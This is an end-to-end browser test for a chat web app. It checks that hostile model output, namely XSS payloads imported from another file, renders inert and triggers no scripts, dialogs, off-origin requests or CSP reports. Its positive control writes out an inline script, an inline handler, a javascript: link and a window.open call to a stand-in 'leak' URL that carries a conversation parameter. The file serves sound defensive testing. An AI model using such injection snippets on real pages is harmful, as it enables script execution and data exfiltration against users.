/**
 * Every payload of test/robustness/hostile-payloads.ts, as model output, into the real page in
 * Chromium: streamed through the echo backend, then re-rendered from storage after a reload. Model
 * output is untrusted: a prompt-injected web page or a poisoned model can emit any of these.
 *
 * Four independent witnesses must stay silent: traps on alert/confirm/prompt/print and on the
 * `window.__xss` flag the payloads set, the dialog listener, the router (no request or navigation
 * to another origin or to a javascript:/data: URL), and the page's CSP report endpoint (Chromium
 * sends one report per distinct violation, so the traps also record every `securitypolicyviolation`
 * event). A positive control at the end makes the page break its own policy on purpose, so that
 * their silence means something.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { LONGEST_UNBROKEN_RUN } from '../../web/src/lib/markdown/break-long-runs.ts';
import { hostilePayloads } from '../robustness/hostile-payloads.ts';
import { recordRobustnessFigures } from '../robustness/robustness-figures.ts';
import { auditAnswers, countDocumentWideActiveElements, interactWithAnswers, type AnswerAudit } from './support/answer-audit.ts';
import { answers, openPage, sendPrompt, waitForAnswerDone, waitForPageReady, type OpenedPage } from './support/browser.ts';
import { endBrowserUse, testBrowser } from './support/test-browser.ts';
import { installExecutionTraps, type ExecutionTraps } from './support/hostile-traps.ts';
import { batchPayloads } from './support/payload-batches.ts';
import { startTestServer, type TestServer } from './support/test-server.ts';
import { waitFor } from '../support/wait-for.ts';

// 16 payloads an answer keeps the suite quick; 400 words stays under the page's 512 new tokens.
const payloadBatches = batchPayloads(hostilePayloads, { maxPayloads: 16, maxWords: 400 });
const markersPerAnswer = payloadBatches.map((batch) => batch.payloads.map((payload) => payload.marker));
const payloadByMarker = new Map(hostilePayloads.map((payload) => [payload.marker, payload]));
const describePayload = (marker: string) => `${payloadByMarker.get(marker)?.id ?? '?'} (${marker})`;

/** Violations the server has counted so far, from its /metrics. */
async function cspViolationsReported(server: TestServer): Promise<number> {
  const metrics = await (await fetch(new URL('/metrics', server.url))).text();
  return [...metrics.matchAll(/^anychat_csp_violations_total\{[^}]*\} (\d+)$/gm)].reduce((sum, match) => sum + Number(match[1]), 0);
}

/** KaTeX and highlight.js load on first use, then the answers are drawn again with them. */
async function waitForLazyRenderers(page: Page): Promise<void> {
  await page.waitForFunction(() => document.querySelector('article[aria-label="Answer"] .math-pending') === null, undefined, { timeout: 20_000 });
  // The redraw after a late highlighter language lands is one more frame or two.
  await page.waitForTimeout(500);
}

/** What the payloads caused, across both renderings: the figures in ROBUSTNESS.md. */
const findings = {
  executedMarkers: new Set<string>(),
  unattributedExecutions: [] as string[],
  cspReportsFromPayloads: 0,
  /**
   * The suite's own witness: violations its page itself saw (`securitypolicyviolation`), which no
   * report posted to the server from elsewhere can inflate; the server's counter is checked too.
   */
  cspViolationsSeenByPage: 0,
  activeElements: [] as string[],
  missingMarkers: new Set<string>(),
  offOriginRequests: [] as string[],
};

function collect(audit: AnswerAudit, traps: ExecutionTraps, opened: OpenedPage): void {
  findings.activeElements.push(...audit.activeElements);
  for (const marker of audit.missingMarkers) findings.missingMarkers.add(marker);
  findings.cspViolationsSeenByPage += traps.records.filter((record) => record.what === 'csp-violation').length;
  for (const record of traps.records.filter((record) => record.what !== 'csp-violation')) {
    const marker = /hostile\d{3}/.exec(record.detail)?.[0];
    if (marker) findings.executedMarkers.add(marker);
    else findings.unattributedExecutions.push(`${record.what}(${record.detail})`);
  }
  findings.unattributedExecutions.push(...opened.dialogs.map((dialog) => `dialog ${dialog}`));
  findings.offOriginRequests.push(...traps.offOriginRequests);
}

describe('hostile model output is shown inert', () => {
  let server: TestServer;
  let browser: Browser;
  let opened: OpenedPage;
  let traps: ExecutionTraps;
  let reportsAtStart: number;
  let documentBaseline: Record<string, number>;

  before(async () => {
    // A context window no batch of long payloads can overflow: the echo backend must send all of it.
    [server, browser] = await Promise.all([startTestServer({ echoDelayMs: 0, echoContextWindow: 10_000_000 }), testBrowser()]);
    opened = await openPage(browser, server.url);
    traps = await installExecutionTraps(opened.page.context(), new URL(server.url).origin);
    // The traps are init scripts: a reload puts them in place before the app's own code runs.
    await opened.page.reload();
    await waitForPageReady(opened.page);
    reportsAtStart = await cspViolationsReported(server);
    documentBaseline = await countDocumentWideActiveElements(opened.page);
  });

  after(async () => {
    await recordRobustnessFigures({
      suite: 'hostile-output',
      title: 'Hostile model output',
      runBy: 'npm run test:e2e (test/e2e/hostile-output.test.ts)',
      figures: [
        { label: 'payloads tried', value: hostilePayloads.length },
        { label: 'answers they were streamed in', value: payloadBatches.length },
        { label: 'payloads executed', value: findings.executedMarkers.size + findings.unattributedExecutions.length, mustBeZero: true },
        { label: 'CSP reports from payloads', value: findings.cspReportsFromPayloads, mustBeZero: true },
        { label: 'active elements created', value: findings.activeElements.length, mustBeZero: true },
        { label: 'payloads whose text went missing', value: findings.missingMarkers.size, mustBeZero: true },
        { label: 'requests or navigations off the page’s origin', value: findings.offOriginRequests.length, mustBeZero: true },
      ],
      notes: [
        `${hostilePayloads.length} payloads in ${new Set(hostilePayloads.map((payload) => payload.kind)).size} kinds (script tags, event handlers, SVG, MathML, script URLs, CSS, embedding, mutation XSS, markdown links, code fences, highlight.js languages, KaTeX, unicode, very long), ${payloadBatches.length} answers of up to 16 (the page's own lexer checks that batching changes how none of them parses); each streamed through the echo backend, then re-rendered from storage after a reload, with every element hovered, focused and clicked`,
        'witnesses: alert/confirm/prompt/print and window.__xss traps, the dialog listener, a router that records any request off the origin or to javascript:/data:, and the CSP report endpoint (report-uri /api/csp-report, anychat_csp_violations_total); a positive control (inline script, inline handler, javascript: link, alert, the flag, window.open) proves each fires; checked once by hand: with escaping and DOMPurify switched off the suite counts 218 active elements, 159 payloads with lost text and CSP reports, and with CSP weakened too, 12 executed payloads',
        'fixed: KaTeX dropped the text of \\href, \\url and \\htmlData/Class/Id/Style (trust is off, so it showed only the command name in red); they are now macros that keep the text and make no link or attribute',
        'fixed: text full of unclosed math openers ($$$$…, \\[\\[…, \\(\\(…) lexed in quadratic time (32 KB of $$ froze the page 7 s per render); failed closing-delimiter searches are capped per document',
        'fixed: Chromium wraps a long run with no break opportunity (overflow-wrap: anywhere) in quadratic time, 3.5 s per layout for 50 KB; answers now get a <wbr> every 80 characters of such a run (20 ms); the user bubble gets the same break points, and the prompt and editor boxes stop wrapping inside such runs (test/e2e/huge-input.test.ts)',
      ],
    });
    await endBrowserUse(browser);
    await server?.close();
  });

  /**
   * Hovers, focuses and clicks everything in the answers, looks at them, adds what it finds to
   * the figures, then asserts that none of it happened. `stepFailure`: a payload that takes the
   * page over (hides the prompt box, navigates away) stops the step before; what it did is still
   * audited and counted, and the failure is reported after.
   */
  async function checkAnswersAreInert(stepFailure: unknown): Promise<void> {
    const { page } = opened;
    assert.ok((await interactWithAnswers(page)) > 0);
    await page.waitForTimeout(300);
    const audit = await auditAnswers(page, markersPerAnswer, LONGEST_UNBROKEN_RUN);
    collect(audit, traps, opened);

    assert.deepEqual(audit.activeElements, []);
    assert.deepEqual(audit.missingMarkers.map(describePayload), []);
    assert.deepEqual(audit.unbrokenRuns, []);
    assert.deepEqual(traps.records, []);
    assert.deepEqual(opened.dialogs, []);
    assert.deepEqual(traps.offOriginRequests, []);
    assert.deepEqual(await countDocumentWideActiveElements(page), documentBaseline);
    assert.ifError(stepFailure);
    assert.equal(audit.answerCount, payloadBatches.length);
  }

  it('serves the page with a policy that forbids inline scripts and reports violations, and the page breaks none of it', async () => {
    const response = await fetch(server.url, { headers: { accept: 'text/html' } });
    const policy = response.headers.get('content-security-policy') ?? '';
    assert.match(policy, /(^|; )script-src 'self'(;|$)/);
    assert.match(policy, /(^|; )report-uri \/api\/csp-report(;|$)/);
    assert.doesNotMatch(await response.text(), /<script(?![^>]*\bsrc=)[^>]*>/);
    assert.equal(reportsAtStart, 0);
    assert.deepEqual(opened.errors.filter((error) => /Content Security Policy/i.test(error)), []);
  });

  it('streams every payload without running it, making active elements or losing its text', async () => {
    const { page } = opened;
    const sendingFailure = await failureOf(async () => {
      for (const batch of payloadBatches) {
        await sendPrompt(page, batch.markdown);
        await waitForAnswerDone(page, 60_000);
      }
      await waitForLazyRenderers(page);
    });
    await checkAnswersAreInert(sendingFailure);
  });

  it('re-renders the stored answers after a reload just as inert', async () => {
    const { page } = opened;
    // What the reload shows is judged on its own; the streamed answers were judged above.
    traps.clear();
    opened.dialogs.length = 0;
    const reloadFailure = await failureOf(async () => {
      await page.reload();
      await waitForPageReady(page);
      await answers(page).nth(payloadBatches.length - 1).waitFor({ state: 'attached' });
      await waitForLazyRenderers(page);
    });
    await checkAnswersAreInert(reloadFailure);
  });

  it('gets no CSP report from the payloads, and does get one when the page breaks its policy on purpose', async () => {
    const { page } = opened;
    // A violation is posted as soon as it happens; a second is ample for the last one to land.
    await page.waitForTimeout(1000);
    findings.cspReportsFromPayloads = Math.max((await cspViolationsReported(server)) - reportsAtStart, findings.cspViolationsSeenByPage);
    assert.equal(findings.cspViolationsSeenByPage, 0, 'the page itself saw no violation');
    assert.equal(findings.cspReportsFromPayloads, 0);

    // Positive control: what a payload that got through would do, done by the test itself.
    traps.clear();
    const reportsBeforeControl = await cspViolationsReported(server);
    // An inline script, an inline event handler and a javascript: link: the three ways a payload
    // would run code in the page. (Not eval: code that page.evaluate runs may eval despite the
    // policy, so it would prove nothing.)
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = "window.__xss = 'control: inline script'";
      document.body.append(script);
      const button = document.createElement('button');
      button.setAttribute('onclick', "window.__xss = 'control: inline handler'");
      document.body.append(button);
      button.click();
      const link = document.createElement('a');
      link.href = "javascript:window.__xss = 'control: javascript link'";
      document.body.append(link);
      link.click();
      button.remove();
      link.remove();
    });
    await page.evaluate(() => {
      window.alert('control: alert');
      (window as unknown as { __xss: string }).__xss = 'control: flag';
      window.open('https://control.invalid/leak?conversation=secret', '_blank');
    });
    await waitFor(async () => (await cspViolationsReported(server)) >= reportsBeforeControl + 3, { what: 'the CSP reports of the control to arrive', timeoutMs: 10_000 });

    // CSP blocked all three, and the browser reported each…
    const seen = traps.records.map((record) => `${record.what}: ${record.detail}`);
    assert.ok(seen.filter((line) => line.startsWith('csp-violation:')).length >= 3, seen.join('\n'));
    assert.ok(!seen.some((line) => /control: (inline|javascript)/.test(line)), seen.join('\n'));
    // …and the traps saw what got past it.
    assert.ok(seen.includes('alert: control: alert'), seen.join('\n'));
    assert.ok(seen.includes('__xss: control: flag'), seen.join('\n'));
    await waitFor(async () => traps.offOriginRequests.some((line) => line.includes('control.invalid')), { what: 'the router to see the control request', timeoutMs: 10_000 });
  });
});

async function failureOf(step: () => Promise<void>): Promise<unknown> {
  try {
    await step();
    return null;
  } catch (error) {
    return error;
  }
}
